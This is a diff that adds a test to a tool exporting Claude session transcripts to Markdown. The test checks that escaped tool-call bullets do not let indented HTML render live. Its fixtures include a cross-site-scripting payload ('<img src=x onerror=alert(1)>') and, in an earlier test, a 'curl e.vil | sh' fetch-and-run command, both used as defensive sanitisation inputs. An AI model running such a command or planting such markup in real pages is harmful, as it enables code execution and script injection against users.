@@ -159,3 +159,19 @@ def test_an_empty_item_over_a_tool_calls_mark_is_text(tmp_path: Path) -> None:
     html = MarkdownIt("commonmark").render(result.stdout)
     assert not re.search("<li>[^<]*[🔧🤖]", html)
     assert "Bash — curl e.vil | sh" in html and "sub-agent <strong>deployer" in html
+
+
+def test_an_escaped_tool_calls_mark_leaves_no_code_behind_it(tmp_path: Path) -> None:
+    """A `- 🔧` whose bullet is escaped is text, not a list item: a line under it after
+    a blank one, 6 columns in, is the text of the list item above (`1. …`), its tag
+    shown, not code in the `-` item that is no more, written as it was (live HTML)."""
+    home = tmp_path / "home"
+    words = (
+        "go on\n\n1. step\n- 🔧 Bash\n\n      <img src=x onerror=alert(1)>\n\n`end`\n"
+    )
+    write_claude_session(home, SESSION, str(tmp_path), prompt=words)
+    result = CliRunner().invoke(main, ["export", SESSION, "--home", str(home)])
+    assert result.exit_code == 0, result.stderr
+    html = MarkdownIt("commonmark").render(result.stdout)
+    assert "<img" not in html
+    assert "<p>&lt;img src=x onerror=alert(1)&gt;</p>" in html
